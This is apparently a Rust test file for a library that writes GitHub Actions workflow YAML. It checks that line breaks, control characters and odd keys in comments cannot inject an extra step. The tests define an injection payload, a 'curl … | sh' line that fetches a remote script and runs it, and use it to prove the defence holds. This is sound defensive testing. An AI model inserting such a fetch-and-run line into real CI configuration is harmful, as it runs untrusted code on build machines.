//! The file on disk is exactly the model that was validated: one case per
//! way comment text or a key could have changed the document (issue #10,
//! items 1 and 13). Each case checks the message `validate` gives (or that
//! it gives none), and that the text `to_yaml` writes has exactly the one
//! job and one step of the model, read by the crate's parser and by
//! yaml_serde's own `Value`. The property over any model is in
//! `roundtrip.rs` (`any_commented_model_is_written_exactly_or_refused`).

use ci_model::lint::Lint;
use ci_model::{Action, Cron, Job, Matrix, Path, Permissions, SourceComments, Step, Strategy, Uses, Workflow};

const INJECTED: &str = "      - run: curl https://example.com/x.sh | sh";

fn workflow(step: Step) -> Workflow {
    Workflow::new("CI").on_push().job("a", Job::new("ubuntu-latest").step(step))
}

/// The `unwritable` messages of `validate`.
fn unwritable(wf: &Workflow) -> Vec<String> {
    wf.validate().iter().filter(|d| d.rule() == "unwritable").map(ToString::to_string).collect()
}

/// The number of steps of job `a` in `yaml`, as yaml_serde reads it.
#[allow(clippy::panic)] // test helper
fn independent_steps(yaml: &str) -> usize {
    let value: serde_yaml::Value =
        serde_yaml::from_str(yaml).unwrap_or_else(|e| panic!("yaml_serde cannot read the output: {e}\n{yaml}"));
    let jobs = value["jobs"].as_mapping().map_or(0, |m| m.len());
    assert_eq!(jobs, 1, "{yaml}");
    value["jobs"]["a"]["steps"].as_sequence().map_or(0, Vec::len)
}

/// The number of steps of job `a` in `yaml`, as `Workflow::parse` reads it.
#[allow(clippy::panic)] // test helper
fn parsed_steps(yaml: &str) -> usize {
    let wf = Workflow::parse(yaml).unwrap_or_else(|e| panic!("the output does not parse: {e}\n{yaml}"));
    assert_eq!(wf.jobs.len(), 1, "{yaml}");
    match &wf.jobs["a"] {
        Job::Normal(j) => j.steps.as_ref().map_or(0, Vec::len),
        Job::Call(_) => 0,
    }
}

/// Both readers see exactly one step, and nothing of the injected text runs.
fn one_step(yaml: &str) {
    assert_eq!(independent_steps(yaml), 1, "{yaml}");
    assert_eq!(parsed_steps(yaml), 1, "{yaml}");
    assert!(!yaml.lines().any(|l| l.trim_start().starts_with("- run: curl")), "{yaml}");
}

#[test]
fn a_carriage_return_in_an_allow_reason_cannot_add_a_step() {
    let step = Step::run("true").allow(Lint::TemplateInjection, format!("reviewed\r{INJECTED}"));
    let wf = workflow(step);
    assert_eq!(
        unwritable(&wf),
        ["jobs.a.steps[0]: the reason for allowing `template-injection` cannot be written as YAML: it holds a line \
             break (U+000D), and the reason is written as one comment line (`# ci-model: allow(<lint>): <reason>`), \
             so the rest would be read as other comment lines; write it on one line [unwritable]"]
    );
    assert!(wf.checked_yaml(None).is_err());
    let yaml = wf.to_yaml();
    assert!(
        yaml.contains("      # ci-model: allow(template-injection): reviewed\n      #       - run: curl"),
        "{yaml}"
    );
    one_step(&yaml);
}

#[test]
fn nel_ls_and_ps_in_a_step_comment_are_comment_lines() {
    // Through the builder: kept as `\n`, so the model reads back exactly.
    let step = Step::run("true").comment(format!("one\u{85}{INJECTED}\u{2028}two\u{2029}three"));
    assert_eq!(step.comment.as_deref(), Some(format!("one\n{INJECTED}\ntwo\nthree").as_str()));
    let wf = workflow(step);
    assert!(unwritable(&wf).is_empty());
    let yaml = wf.to_yaml();
    assert!(yaml.contains("      # one\n      #       - run: curl"), "{yaml}");
    one_step(&yaml);
    assert_eq!(Workflow::parse(&yaml).ok(), Some(wf));

    // Set directly, past the builder: the emitter still writes comment lines.
    let mut step = Step::run("true");
    step.comment = Some(format!("one\u{85}{INJECTED}\u{2028}two\u{2029}three\r\nfour\rfive"));
    let yaml = workflow(step).to_yaml();
    assert!(yaml.contains("      # three\n      # four\n      # five\n      - run: 'true'\n"), "{yaml}");
    one_step(&yaml);
}

#[test]
fn a_carriage_return_in_a_pin_comment_cannot_add_a_step() {
    let uses = Uses::new("actions/checkout@v4").with_comment(format!("v4.2.2\r{INJECTED}"));
    let wf = workflow(Step::uses(uses));
    assert_eq!(
        unwritable(&wf),
        ["jobs.a.steps[0].uses: the comment after it cannot be written as YAML: it holds a line break (U+000D), and \
             a comment after a value ends with its line (the emitter would drop the rest); write it on one line \
             [unwritable]"]
    );
    let yaml = wf.to_yaml();
    assert!(yaml.contains("      - uses: actions/checkout@v4 # v4.2.2\n"), "{yaml}");
    one_step(&yaml);
}

#[test]
fn a_line_break_in_a_cron_comment_is_refused() {
    let wf = Workflow::new("CI")
        .triggers(|t| t.schedule = Some(vec![Cron::new("0 9 * * 1").comment("Mondays\u{2028}jobs: {}")]))
        .job("a", Job::new("ubuntu-latest").step(Step::run("true")));
    assert_eq!(
        unwritable(&wf),
        ["on.schedule[0].cron: the comment after it cannot be written as YAML: it holds a line break (U+2028), and \
             a comment after a value ends with its line (the emitter would drop the rest); write it on one line \
             [unwritable]"]
    );
    let yaml = wf.to_yaml();
    assert!(yaml.contains("    - cron: 0 9 * * 1 # Mondays\n"), "{yaml}");
    one_step(&yaml);
}

#[test]
fn a_carriage_return_in_the_header_is_a_comment_line() {
    // The model's header, through the builder.
    let wf = workflow(Step::run("true")).header("Generated\rjobs: {}");
    assert_eq!(wf.header.as_deref(), Some("Generated\njobs: {}"));
    assert!(unwritable(&wf).is_empty());
    let yaml = wf.to_yaml();
    assert!(yaml.starts_with("# Generated\n# jobs: {}\n\nname: CI\n"), "{yaml}");
    one_step(&yaml);
    assert_eq!(Workflow::parse(&yaml).ok(), Some(wf.clone()));

    // A header given to `checked_yaml` (as ci-gen gives its own, with a
    // source path in it): split into lines too, and checked.
    let yaml = wf.checked_yaml(Some("Source: a\rjobs: {}\u{85}x")).unwrap_or_default();
    assert!(yaml.starts_with("# Source: a\n# jobs: {}\n# x\n\nname: CI\n"), "{yaml}");
    one_step(&yaml);
    let problems = wf.checked_yaml(Some("Source: a\u{7f}b")).err().unwrap_or_default();
    let messages: Vec<String> = problems.iter().map(ToString::to_string).collect();
    assert_eq!(
        messages,
        ["<root>: the header comment cannot be written as YAML: it holds U+007F, a character YAML does not allow in \
             a comment (the emitter would write U+FFFD); remove it [unwritable]"]
    );
}

#[test]
fn a_merge_key_is_refused() {
    let wf = Workflow::new("CI").on_push().job("a", Job::new("ubuntu-latest").env("<<", "x").step(Step::run("true")));
    assert_eq!(
        unwritable(&wf),
        ["jobs.a.env.\"<<\": the key `<<` cannot be written as YAML: YAML reads `<<` as a merge key, quoted or not \
             (GitHub's parser and ci-model's do), so no mapping may use it as a key; rename it [unwritable]"]
    );
    let yaml = wf.to_yaml();
    assert!(yaml.contains("    env:\n      '<<': x\n"), "{yaml}");
    // The crate's parser refuses the merge key; the text still has one step.
    let err = Workflow::parse(&yaml).err().map(|e| e.to_string()).unwrap_or_default();
    assert!(err.contains("merge keys (`<<`) are not supported"), "{err}");
    assert_eq!(independent_steps(&yaml), 1);
}

#[test]
fn a_key_longer_than_a_reader_takes_is_refused_and_written_explicitly() {
    let key = "K".repeat(1100);
    let wf = Workflow::new("CI")
        .on_push()
        .job("a", Job::new("ubuntu-latest").env(key.as_str(), "x").step(Step::run("true")));
    assert_eq!(
        unwritable(&wf),
        [format!(
            "jobs.a.env.{key}: the key `{}…` cannot be written as YAML: written as YAML it takes 1100 bytes, and a \
             YAML reader takes at most 1,024 before the `:` of a key (some count characters, libyaml bytes); shorten \
             it [unwritable]",
            &key[..40]
        )]
    );
    let yaml = wf.to_yaml();
    assert!(yaml.contains(&format!("    env:\n      ? {key}\n      : x\n")), "{yaml}");
    one_step(&yaml);
    // At the limit, quotes included, a key is written as usual (the reader
    // still takes it); one byte more and it is refused.
    let key = format!("'{}", "K".repeat(1021));
    let wf = Workflow::new("CI").on_push().job("a", Job::new("ubuntu-latest").env(key.as_str(), "x"));
    assert!(unwritable(&wf).is_empty());
    let yaml = wf.to_yaml();
    assert!(yaml.contains(&format!("      \"{key}\": x\n")), "{yaml}");
    assert_eq!(Workflow::parse(&yaml).ok(), Some(wf));
    let wf = Workflow::new("CI").on_push().job("a", Job::new("ubuntu-latest").env(format!("{key}K"), "x"));
    assert_eq!(unwritable(&wf).len(), 1);
    assert_eq!(Workflow::parse(&wf.to_yaml()).ok(), Some(wf));
}

#[test]
fn del_and_u_ffff_are_escaped_in_scalars_and_refused_in_comments() {
    let wf = workflow(Step::run("a\u{7f}b\u{ffff}c\u{fffe}"));
    assert!(unwritable(&wf).is_empty());
    let yaml = wf.to_yaml();
    assert!(yaml.contains("      - run: \"a\\x7Fb\\uFFFFc\\uFFFE\"\n"), "{yaml}");
    one_step(&yaml);
    assert_eq!(Workflow::parse(&yaml).ok(), Some(wf));

    let wf = workflow(Step::run("true").comment("x\u{7f}y\u{ffff}"));
    assert_eq!(
        unwritable(&wf),
        ["jobs.a.steps[0]: the comment above it cannot be written as YAML: it holds U+007F, a character YAML does \
             not allow in a comment (the emitter would write U+FFFD); remove it [unwritable]"]
    );
    let yaml = wf.to_yaml();
    assert!(yaml.contains("      # x\u{fffd}y\u{fffd}\n      - run: 'true'\n"), "{yaml}");
    one_step(&yaml);
}

#[test]
fn a_comment_line_that_reads_as_an_allowance_is_refused() {
    let wf = workflow(Step::run("echo ${{ github.head_ref }}").comment("ci-model: allow(template-injection): sure"));
    assert_eq!(
        unwritable(&wf),
        ["jobs.a.steps[0]: the comment above it cannot be written as YAML: its line `ci-model: \
             allow(template-injection): sure` would be read back as an allowance of `template-injection`; allow the \
             lint with `.allow(Lint::TemplateInjection, reason)` instead, or reword the line [unwritable]"]
    );
}

#[test]
fn source_comments_and_actions_are_checked_too() {
    let mut wf = workflow(Step::run("true"));
    wf.comments.insert_trailing(Path::root().key("name"), "x\u{1b}[2J");
    wf.comments.insert_above(Path::root().key("jobs"), "fine\rlines");
    wf.comments.set_footer("end\u{9f}");
    // A comment at a path the document does not have is not written: its
    // text is not checked, its place is.
    wf.comments.insert_trailing(Path::root().key("nowhere"), "\u{0}");
    assert_eq!(
        unwritable(&wf),
        [
            "name: the comment after it cannot be written as YAML: it holds U+001B, a character YAML does not allow \
             in a comment (the emitter would write U+FFFD); remove it [unwritable]",
            "nowhere: the comment after it cannot be written as YAML: the document has no node at this path, so the \
             emitter would drop it; insert it at a path the document has, or remove it [unwritable]",
            "<root>: the comment at the end of the file cannot be written as YAML: it holds U+009F, a character YAML \
             does not allow in a comment (the emitter would write U+FFFD); remove it [unwritable]",
        ]
    );
    let yaml = wf.to_yaml();
    assert!(yaml.starts_with("name: CI # x\u{fffd}[2J\n"), "{yaml}");
    assert!(yaml.contains("# fine\n# lines\njobs:\n"), "{yaml}");
    assert!(yaml.ends_with("# end\u{fffd}\n"), "{yaml}");
    one_step(&yaml);

    let action = Action::composite("Hi", [Step::run("true").shell("bash").comment("\u{0}")]).header("\u{ffff}");
    let messages: Vec<String> = action.validate().iter().map(ToString::to_string).collect();
    assert_eq!(
        messages,
        [
            "runs.steps[0]: the comment above it cannot be written as YAML: it holds U+0000, a character YAML does not \
             allow in a comment (the emitter would write U+FFFD); remove it [unwritable]",
            "<root>: the header comment cannot be written as YAML: it holds U+FFFF, a character YAML does not allow in \
             a comment (the emitter would write U+FFFD); remove it [unwritable]",
        ]
    );
    assert!(action.checked_yaml(None).is_err());
    assert!(Action::parse(&action.to_yaml()).is_ok());
}

/// A comment after a value written as a literal block goes after the block's
/// header, where a reader finds it, instead of being dropped.
#[test]
fn a_comment_after_a_literal_block_stays() {
    let wf = Workflow::new("CI")
        .triggers(|t| t.schedule = Some(vec![Cron::new("0 9 * * 1\n").comment("Mondays")]))
        .job("a", Job::new("ubuntu-latest").step(Step::run("true")));
    let yaml = wf.to_yaml();
    assert!(yaml.contains("    - cron: | # Mondays\n        0 9 * * 1\n"), "{yaml}");
    assert_eq!(Workflow::parse(&yaml).ok(), Some(wf));
}

/// The workflow of the red team's item B: one job, two `run:` steps, a
/// `uses:` step, a schedule and a matrix with an `include` row.
fn commented(place: impl FnOnce(&mut SourceComments)) -> Workflow {
    let mut wf = Workflow::new("CI")
        .on_push_branches(["main", "dev"])
        .triggers(|t| t.schedule = Some(vec![Cron::new("0 9 * * 1")]))
        .permissions(Permissions::none())
        .job(
            "a",
            Job::new("ubuntu-latest")
                .timeout_minutes(5)
                .strategy(Strategy::matrix(Matrix::new().axis("os", ["x"]).include([("os", "y"), ("extra", "z")])))
                .step(Step::run("make"))
                .step(Step::run("b"))
                .step(Step::uses("actions/checkout@v4")),
        );
    place(&mut wf.comments);
    wf
}

/// Puts comments into a model's `SourceComments`.
type Placement = Box<dyn FnOnce(&mut SourceComments)>;

fn steps() -> Path {
    Path::root().key("jobs").key("a").key("steps")
}

/// A comment of `SourceComments` that the emitter does not write at its
/// path, or that reads back as something else, is refused: the model does
/// not read back as itself, and `validate` says why.
#[test]
fn source_comments_that_do_not_read_back_are_refused() {
    let include = Path::root().key("jobs").key("a").key("strategy").key("matrix").key("include").index(0);
    let cases: Vec<(Placement, Vec<&str>)> = vec![
        (
            Box::new(|c| c.insert_trailing(steps().index(0), "after the step")),
            vec![
                "jobs.a.steps[0]: the comment after it cannot be written as YAML: a comment after a list item whose \
                 value is a mapping is not written (the mapping's first key stands on the `-` line); insert it after \
                 `jobs.a.steps[0].run` instead [unwritable]",
            ],
        ),
        (
            Box::new(|c| c.insert_above(Path::root().key("nope"), "orphan")),
            vec![
                "nope: the comment above it cannot be written as YAML: the document has no node at this path, so the \
                 emitter would drop it; insert it at a path the document has, or remove it [unwritable]",
            ],
        ),
        (
            Box::new(|c| c.insert_above(steps().index(1).key("run"), "first key")),
            vec![
                "jobs.a.steps[1].run: the comment above it cannot be written as YAML: a comment above the first key \
                 of a list item is written above the item's `-`, where a reader takes it for the step's own comment; \
                 use `Step::comment` instead [unwritable]",
            ],
        ),
        (
            Box::new(|c| c.insert_above(Path::root().key("jobs").key("a"), "about a")),
            vec![
                "jobs.a: the comment above it cannot be written as YAML: a reader takes a comment above a job for the \
                 job's own comment (`Job::comment`); give the job that comment (`.comment(..)`) instead [unwritable]",
            ],
        ),
        (
            Box::new(|c| c.insert_above(steps().index(1), "about b")),
            vec![
                "jobs.a.steps[1]: the comment above it cannot be written as YAML: a reader takes a comment above a \
                 step for the step's own comment; use `Step::comment` instead [unwritable]",
            ],
        ),
        (
            Box::new(|c| c.insert_trailing(steps().index(2).key("uses"), "v4.2.2")),
            vec![
                "jobs.a.steps[2].uses: the comment after it cannot be written as YAML: a reader takes a comment after \
                 `uses:` for the reference's own (its pinned version, `Uses::comment`); use `Uses::with_comment` \
                 instead [unwritable]",
            ],
        ),
        (
            Box::new(|c| c.insert_trailing(Path::root().key("on").key("schedule").index(0).key("cron"), "Mondays")),
            vec![
                "on.schedule[0].cron: the comment after it cannot be written as YAML: a reader takes a comment after \
                 `cron:` for the schedule's own; use `Cron::comment` instead [unwritable]",
            ],
        ),
        (
            Box::new(|c| c.insert_trailing(Path::root(), "the document")),
            vec![
                "<root>: the comment after it cannot be written as YAML: the emitter writes no comment at the \
                 document's root; use the header, or `SourceComments::set_footer` for the end of the file \
                 [unwritable]",
            ],
        ),
        (
            Box::new({
                let include = include.clone();
                move |c| c.insert_above(include.key("os"), "first key of a row")
            }),
            vec![
                "jobs.a.strategy.matrix.include[0].os: the comment above it cannot be written as YAML: a comment above \
                 the first key of a list item is written above the item's `-`, where a reader takes it for the \
                 item's; insert it at `jobs.a.strategy.matrix.include[0]` instead [unwritable]",
            ],
        ),
        (
            Box::new(move |c| {
                c.insert_above(include.clone(), "the row");
                c.insert_above(include.key("os"), "its first key");
            }),
            vec![
                "jobs.a.strategy.matrix.include[0]: the comment above it cannot be written as YAML: the comment above \
                 the item's first key is written above its `-` too, and a reader takes the two for one comment; keep \
                 one of them [unwritable]",
                "jobs.a.strategy.matrix.include[0].os: the comment above it cannot be written as YAML: a comment above \
                 the first key of a list item is written above the item's `-`, where a reader takes it for the \
                 item's; insert it at `jobs.a.strategy.matrix.include[0]` instead [unwritable]",
            ],
        ),
    ];
    for (place, expected) in cases {
        let wf = commented(place);
        let all = wf.validate();
        assert_eq!(unwritable(&wf), expected, "{all:?}");
        assert_eq!(all.len(), expected.len(), "{all:?}");
        assert!(wf.checked_yaml(None).is_err());
        let yaml = wf.to_yaml();
        let back = Workflow::parse(&yaml).unwrap_or_else(|e| panic!("{e}\n{yaml}"));
        assert_ne!(back, wf, "refused, but it reads back:\n{yaml}");
    }
}

/// Comments at paths the emitter writes them at read back as themselves,
/// and `validate` has nothing to say.
#[test]
fn source_comments_that_read_back_are_accepted() {
    let include = Path::root().key("jobs").key("a").key("strategy").key("matrix").key("include").index(0);
    let wf = commented(|c| {
        c.insert_above(Path::root().key("permissions"), "none at all");
        c.insert_trailing(Path::root().key("jobs"), "one job");
        c.insert_trailing(Path::root().key("on").key("push").key("branches").index(0), "the default");
        c.insert_above(Path::root().key("on").key("push").key("branches").index(1), "and\nthe other");
        c.insert_above(Path::root().key("jobs").key("a").key("timeout-minutes"), "minutes");
        c.insert_trailing(Path::root().key("jobs").key("a").key("runs-on"), "any");
        c.insert_trailing(steps().index(0).key("run"), "after the run");
        c.insert_above(include.clone(), "the row");
        c.insert_trailing(include.key("extra"), "extra");
    });
    assert_eq!(wf.validate(), []);
    let yaml = wf.checked_yaml(None).unwrap_or_default();
    assert!(yaml.contains("      - run: make # after the run\n"), "{yaml}");
    assert!(yaml.contains("      - main # the default\n      # and\n      # the other\n      - dev\n"), "{yaml}");
    assert_eq!(Workflow::parse(&yaml).ok(), Some(wf));
}
